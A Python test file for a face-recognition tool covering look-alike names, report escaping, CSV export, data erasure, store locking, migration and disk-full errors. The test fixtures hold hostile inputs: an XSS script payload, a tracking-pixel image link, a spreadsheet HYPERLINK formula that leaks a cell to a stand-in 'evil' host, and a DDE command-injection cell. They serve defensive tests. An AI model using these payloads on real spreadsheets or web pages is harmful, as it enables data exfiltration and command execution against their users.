"""Issue 25, the stores' part: faults and attacks that got through on main, each with the test that
failed there. Names (look-alikes, Markdown, formulas), erasure across every identity store, one owner
per Milvus Lite file, a resumable migration, doctor over every file it owns, disk-full errors, and
exemplars found by analyze's detector. The SIGKILL-at-every-write tests are at the end of tests/test_crash_safety.py."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import numpy as np
import pytest

from facelens.agent.cli import main
from facelens.agent.sessions import store
from facelens.agent.sessions.store import SessionRecord, SessionSegment, TimelineEntry, TrackInfo
from facelens.tools import atomic
from facelens.tools.errors import InputError
from facelens.tools.identity import FaissGallery
from tests.conftest import shared_data

REPO = Path(__file__).resolve().parents[1]

try:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import milvus_lite  # noqa: F401
        import pymilvus  # noqa: F401
    HAVE_MILVUS = True
except Exception:  # ImportError, or pkg_resources missing
    HAVE_MILVUS = False
needs_milvus = pytest.mark.skipif(
    not HAVE_MILVUS, reason="needs pymilvus and milvus-lite (pip install 'facelens[milvus]')"
)


def _unit(seed: int, n: int = 1) -> np.ndarray:
    v = np.random.default_rng(seed).normal(size=(n, 128)).astype(np.float32)
    return v / np.linalg.norm(v, axis=1, keepdims=True)


@pytest.fixture
def milvus_env(monkeypatch, facelens_home):
    monkeypatch.delenv("FACELENS_MILVUS_URI", raising=False)
    monkeypatch.delenv("FACELENS_MILVUS_TOKEN", raising=False)
    monkeypatch.setenv("FACELENS_MILVUS_TIMEOUT", "5")
    yield facelens_home / "gallery" / "milvus.db"
    from facelens.tools.identity_milvus import close_all

    close_all()


# --- 12. look-alike names ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Alice\u3164",  # HANGUL FILLER
        "Alice\ufe0f",  # VARIATION SELECTOR-16
        "Al\u034fice",  # COMBINING GRAPHEME JOINER
        "Alice\u2800",  # BRAILLE PATTERN BLANK
        "\u2800",
        "\u0410lice",  # Cyrillic capital A, then Latin
        "Alic\u0435",  # Latin, then a Cyrillic e
        "\u0410\u04cf\u0456\u0441\u0435",  # all Cyrillic, and looks like "Alice"
        "\u0391lice",  # Greek Alpha
    ],
)
def test_look_alike_names_are_refused_and_removal_leaves_none(name, capsys):
    FaissGallery().add("Alice", _unit(1), ["a.jpg"])
    with pytest.raises(InputError):
        FaissGallery().add(name, _unit(2), ["b.jpg"])
    assert [p.name for p in FaissGallery().people()] == ["Alice"]
    assert main(["gallery", "remove", "Alice"]) == 0
    assert FaissGallery().people() == []  # nothing that displays as "Alice" is left behind


def test_fullwidth_and_compatibility_forms_are_the_same_person():
    FaissGallery().add("Alice", _unit(1), ["a.jpg"])
    name, _ = FaissGallery().add_person("\uff21\uff4c\uff49\uff43\uff45", _unit(2), ["b.jpg"])  # fullwidth "Alice"
    assert name == "Alice" and [(p.name, p.images) for p in FaissGallery().people()] == [("Alice", 2)]


@pytest.mark.parametrize("name", ["Алиса", "山田 太郎", "やまだ たろう", "김민준", "José García", "O'Brien-Smith"])
def test_names_written_in_one_script_are_accepted(name):
    assert FaissGallery().add_person(name, _unit(3), ["x.jpg"])[0] == name


@needs_milvus
def test_milvus_store_refuses_look_alikes_too(milvus_env, monkeypatch):
    from facelens.tools.identity_store import open_gallery

    monkeypatch.setenv("FACELENS_IDENTITY_STORE", "milvus")
    g = open_gallery()
    g.add("Alice", _unit(1), ["a.jpg"])
    for bad in ("\u0410\u04cf\u0456\u0441\u0435", "Alice\u3164", "\u0410lice"):
        with pytest.raises(InputError):
            g.add(bad, _unit(2), ["b.jpg"])
    assert [p.name for p in g.people()] == ["Alice"]


# --- 10. names shown as text, 11. CSV cells neutralised -------------------------------------------

PIXEL = "![x](http://host/pixel.png)"
SCRIPT = "<img src=x onerror=alert(1)><script>alert(2)</script>"


def _render(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(markdown)


def _hostile_session(sid: str = "call") -> None:
    people = [
        TrackInfo(track=1, name=PIXEL, first_seen=0, last_seen=1, seconds=1),
        TrackInfo(track=2, name=SCRIPT, first_seen=0, last_seen=1, seconds=1),
    ]
    timeline = [TimelineEntry(start=0, end=1, emotion="happy", confidence=0.9, track=1)]
    transcript = [
        SessionSegment(start=0, end=1, text='=HYPERLINK("http://evil/?"&A1,"click")', cues=["-2+3"]),
        SessionSegment(start=1, end=2, text="@SUM(A1:A9)"),
        SessionSegment(start=2, end=3, text="+cmd|' /C calc'!A0"),
    ]
    rec = SessionRecord.of_video(sid, 3, 2, people=people, timeline=timeline, transcript=transcript)
    store.save(rec, [])


def test_markdown_report_shows_names_as_text():
    from facelens.agent.sessions.report import report

    _hostile_session()
    html = _render(report("call", "md"))
    assert "<img" not in html and "<script" not in html and 'http://host/pixel.png"' not in html and "href=" not in html
    assert "![x](http://host/pixel.png)" in html  # shown, as typed
    assert "&lt;script&gt;" in html


def test_csv_export_neutralises_formulas():
    from facelens.agent.sessions.report import export

    _hostile_session()
    rows = list(csv.reader(io.StringIO(export("call", "csv"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert '\'=HYPERLINK("http://evil/?"&A1,"click")' in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
    assert "0.9" in cells  # numbers stay numbers


def test_gallery_page_shows_names_as_text(monkeypatch):
    pytest.importorskip("streamlit")
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("FACELENS_BACKEND", "offline")
    FaissGallery().add(PIXEL, _unit(1), [SCRIPT + ".jpg"])
    at = AppTest.from_file(str(REPO / "ui" / "app.py"), default_timeout=90)
    at.run()
    at.sidebar.radio(key="nav_page").set_value("Gallery").run()
    assert not at.exception, [e.value for e in at.exception]
    table = at.table[0].value
    shown = [str(v) for v in table.to_numpy().ravel()] + [b.label for b in at.button]
    assert any("![x](http://host/pixel.png)" in _render(s) for s in shown)  # shown, as typed
    for s in shown:
        html = _render(s)
        assert "<img" not in html and "<script" not in html and "href=" not in html, s


# --- 3. erasure clears every identity store -----------------------------------------------------


@needs_milvus
def test_remove_erases_a_copy_kept_in_the_other_store(milvus_env, monkeypatch, facelens_home, capsys):
    from facelens.tools.identity_store import migrate, open_gallery

    her, him = _unit(11, 3), _unit(12)
    FaissGallery().add("Alice", her, ["a1", "a2", "a3"])
    FaissGallery().add("Bob", him, ["b"])  # one more generation: gallery.npz.prev holds her too
    assert migrate("milvus", keep_source=True).source_cleared is False
    monkeypatch.setenv("FACELENS_IDENTITY_STORE", "milvus")
    assert main(["gallery", "remove", "Alice", "--json"]) == 0
    done = json.loads(capsys.readouterr().out)
    assert done["complete"] and sorted(done["stores"]) == ["faiss", "milvus"] and done["embeddings"] == 6
    for f in ("gallery.npz", "gallery.npz.prev"):
        raw = (facelens_home / "gallery" / f).read_bytes()
        assert not any(v.tobytes() in raw for v in her) and b"Alice" not in raw, f
    from facelens.tools.identity_milvus import close_all

    close_all()
    assert b"Alice" not in milvus_env.read_bytes() and not any(v.tobytes() in milvus_env.read_bytes() for v in her)
    assert [p.name for p in open_gallery(store="milvus").people()] == ["Bob"]
    assert [p.name for p in open_gallery(store="faiss").people()] == ["Bob"]


def test_remove_reaches_the_previous_generation_alone(facelens_home, capsys):
    """A removal killed between its two writes left her only in gallery.npz.prev: the next removal finds her there."""
    her = _unit(21)
    g = FaissGallery()
    g.add("Alice", her, ["a"])
    g.add("Bob", _unit(22), ["b"])
    prev = facelens_home / "gallery" / "gallery.npz.prev"
    cur = facelens_home / "gallery" / "gallery.npz"
    keep = prev.read_bytes()  # holds Alice
    g.remove("Alice")
    prev.write_bytes(keep)  # the removal's first write (the previous generation) never happened
    assert her.tobytes() in prev.read_bytes() and her.tobytes() not in cur.read_bytes()
    assert main(["gallery", "remove", "Alice"]) == 0
    assert her.tobytes() not in prev.read_bytes() and [p.name for p in FaissGallery().people()] == ["Bob"]


# --- 16. an incomplete erasure says so -------------------------------------------------------------


def test_remove_exits_non_zero_when_the_session_database_cannot_be_checked(facelens_home, capsys):
    FaissGallery().add("Alice", _unit(1), ["a"])
    _hostile_session()
    db = store.db_path()
    db.write_bytes(b"this is not a database" * 100)
    assert main(["gallery", "remove", "Alice"]) == 2
    out = capsys.readouterr()
    assert "Removed Alice" in out.out and "INCOMPLETE" in out.out
    assert "incomplete" in out.err and "session database could not be checked" in out.err
    assert FaissGallery().people() == []  # what could be removed, was


# --- 2. one owner per Milvus Lite file ---------------------------------------------------------------


@needs_milvus
def test_a_second_process_on_a_milvus_lite_file_is_refused(milvus_env, monkeypatch, tmp_path, capsys, hopper_jpg):
    """With `serve` (here: a holder process that enrolled and removed someone, as serve does) owning
    the file, the CLI must not work on a second view of it."""
    from facelens.tools.identity_milvus import StoreBusyError
    from facelens.tools.identity_store import open_gallery

    monkeypatch.setenv("FACELENS_IDENTITY_STORE", "milvus")
    ready = tmp_path / "ready"
    code = (
        "import signal, time, pathlib, numpy as np; signal.signal(signal.SIGINT, signal.default_int_handler)\n"
        "from facelens.tools.identity_store import open_gallery\n"
        "g = open_gallery(); v = np.random.default_rng(5).normal(size=(2, 128)).astype('float32')\n"
        "g.add('Eve', v[:1], ['e']); g.add('Mallory', v[1:], ['m']); g.remove('Mallory')\n"
        f"pathlib.Path({str(ready)!r}).touch(); time.sleep(120)\n"
    )
    holder = subprocess.Popen([sys.executable, "-c", code], env={**os.environ}, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not ready.exists() and time.monotonic() < deadline and holder.poll() is None:
            time.sleep(0.2)
        assert ready.exists(), holder.stderr.read() if holder.poll() is not None else "holder did not start"
        assert main(["enroll", "Grace Hopper", str(hopper_jpg)]) == 2
        err = capsys.readouterr().err
        assert "open in another facelens process" in err and f"pid {holder.pid}" in err and "Milvus server" in err
        assert main(["gallery", "remove", "Eve"]) == 2
        assert "open in another facelens process" in capsys.readouterr().err
        with pytest.raises(StoreBusyError):
            open_gallery().people()
    finally:
        holder.send_signal(signal.SIGINT)
        try:
            holder.wait(timeout=20)
        except subprocess.TimeoutExpired:
            holder.kill()
            holder.wait(timeout=10)
    assert [p.name for p in open_gallery().people()] == ["Eve"]  # the owner's view is the only one there was


# --- 4. a resumable migration --------------------------------------------------------------------------


@needs_milvus
def test_a_migration_interrupted_before_clearing_the_source_resumes_either_way(milvus_env):
    from facelens.tools.identity_store import migrate, open_gallery

    FaissGallery().add("Alice", _unit(31, 10), [f"a{i}" for i in range(10)])
    FaissGallery().add("Bob", _unit(32, 6), [f"b{i}" for i in range(6)])
    before = sorted((e.name, e.source, e.added) for e in open_gallery(store="faiss").export()[0])
    migrate("milvus", keep_source=True)  # the state a kill at the start of clearing the source leaves: both full
    assert len(open_gallery(store="faiss")) == len(open_gallery(store="milvus")) == 16
    done = migrate("milvus")  # on main: "already holds 16 embedding(s)"
    assert (done.embeddings, done.verified, done.source_cleared) == (16, True, True)
    assert len(open_gallery(store="faiss")) == 0 and len(open_gallery(store="milvus")) == 16  # nothing duplicated
    migrate("faiss", keep_source=True)
    back = migrate("faiss")  # and the other direction
    assert back.source_cleared and len(open_gallery(store="milvus")) == 0 and len(open_gallery(store="faiss")) == 16
    entries, _ = open_gallery(store="faiss").export()
    assert sorted((e.name, e.source, e.added) for e in entries) == before


# --- 13. doctor checks every generation and file; REST errors carry no paths ------------------------


def _damage(path: Path) -> None:
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 2] ^= 0xFF
    path.write_bytes(bytes(raw))


def test_doctor_and_repair_see_a_damaged_previous_generation(facelens_home, capsys):
    from facelens.agent.cli.doctor import _stores

    FaissGallery().add("Alice", _unit(1), ["a"])
    FaissGallery().add("Bob", _unit(2), ["b"])
    _damage(facelens_home / "gallery" / "gallery.npz.prev")
    with pytest.raises(atomic.DamagedError, match="previous generation"):
        _stores()
    assert main(["gallery", "repair"]) == 0
    assert "previous generation (gallery.npz.prev) was damaged" in capsys.readouterr().out
    assert "sound" in _stores()
    assert [p.name for p in FaissGallery().people()] == ["Alice", "Bob"]


def test_doctor_checks_the_api_key_file_and_rest_errors_hide_paths(facelens_home, capsys):
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from facelens.agent.cli.doctor import _stores
    from facelens.agent.service.app import create_app
    from facelens.agent.service.keys import KeyStore

    keys = KeyStore()
    _, token = keys.create("admin", "admin")
    _damage(keys.path)
    with pytest.raises(atomic.DamagedError, match="API key"):
        _stores()
    assert main(["doctor", "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert not next(c for c in report["checks"] if c["name"] == "stores")["ok"]
    with TestClient(create_app(keys=KeyStore()), raise_server_exceptions=False) as client:
        for headers in ({"Authorization": "Bearer flk_nope_nope"}, {"Authorization": f"Bearer {token}"}, {}):
            r = client.get("/v1/gallery", headers=headers)
            assert r.status_code >= 400
            assert (
                str(facelens_home) not in r.text and "/tmp" not in r.text and os.path.expanduser("~") not in r.text
            ), r.text


# --- 14. a full disk is a one-line error, exit 2, nothing changed -------------------------------------


def _one_line_disk_error(err: str) -> None:
    assert "No space left on device" in err and "unexpected error" not in err and "Traceback" not in err
    assert "Free some disk space" in err and len(err.strip().splitlines()) == 1, err


def test_full_disk_enroll_apikey_exemplar(facelens_home, hopper_jpg, capsys, monkeypatch):
    FaissGallery().add("Alice", _unit(1), ["a"])
    monkeypatch.setenv("FACELENS_FAULT_ENOSPC", "1")  # each command's first atomic write fails (tools/atomic.py's hook)
    monkeypatch.setattr(atomic, "_WRITES", 0)
    before = (facelens_home / "gallery" / "gallery.npz").read_bytes()
    assert main(["enroll", "Grace Hopper", str(hopper_jpg)]) == 2
    _one_line_disk_error(capsys.readouterr().err)
    assert (facelens_home / "gallery" / "gallery.npz").read_bytes() == before
    for args in (
        ["apikey", "create", "bob", "--role", "reader"],
        ["exemplars", "add", str(hopper_jpg), "--label", "happy"],
    ):
        monkeypatch.setattr(atomic, "_WRITES", 0)
        assert main(args) == 2, args
        _one_line_disk_error(capsys.readouterr().err)
    assert not (facelens_home / "apikeys.json").exists()
    monkeypatch.delenv("FACELENS_FAULT_ENOSPC")
    from facelens.tools.exemplars import ExemplarStore

    assert ExemplarStore(builtins=False).list() == [] and not list((facelens_home / "exemplars").glob("ex*.jpg"))
    assert not [p for p in facelens_home.rglob("*.tmp")]
    assert [p.name for p in FaissGallery().people()] == ["Alice"]


def test_full_disk_during_ingest_is_a_one_line_error(tmp_path, monkeypatch, capsys):
    import sqlite3

    from facelens.eval import media

    audio = media.write_audio(tmp_path / "talk.wav", np.zeros(16000, np.float32))

    def full(*a, **k):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(store, "save", full)
    assert main(["session", "ingest", str(audio)]) == 2
    err = capsys.readouterr().err
    assert "database or disk is full" in err and "unexpected error" not in err and "Free some disk space" in err


def test_write_sealed_maps_enospc_and_leaves_no_temp(tmp_path, monkeypatch):
    target = tmp_path / "f.json"
    atomic.write_sealed(target, b"old")
    real = os.fsync

    def no_space(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", no_space)
    with pytest.raises(atomic.StorageError, match="No space left") as err:
        atomic.write_sealed(target, b"new")
    monkeypatch.setattr(os, "fsync", real)
    assert str(tmp_path) not in str(err.value)  # no path: it may reach a REST client
    assert atomic.read_sealed(target) == b"old" and [p.name for p in tmp_path.iterdir()] == ["f.json"]


# --- 17. exemplars add finds the faces analyze finds --------------------------------------------------


@pytest.mark.parametrize("crop", ["00049.jpg", "00070.jpg", "00103.jpg"])
def test_exemplars_add_uses_analyzes_detector_on_tight_crops(crop, capsys):
    """UTKFace crops where the old HOG-only path said "No face found" and analyze finds one face."""
    from facelens.agent.assistant.api import analyze

    path = shared_data("utkface", "val", crop)
    assert len(analyze(path).faces) == 1
    assert main(["exemplars", "add", str(path), "--label", "happy", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["id"] == "ex1"
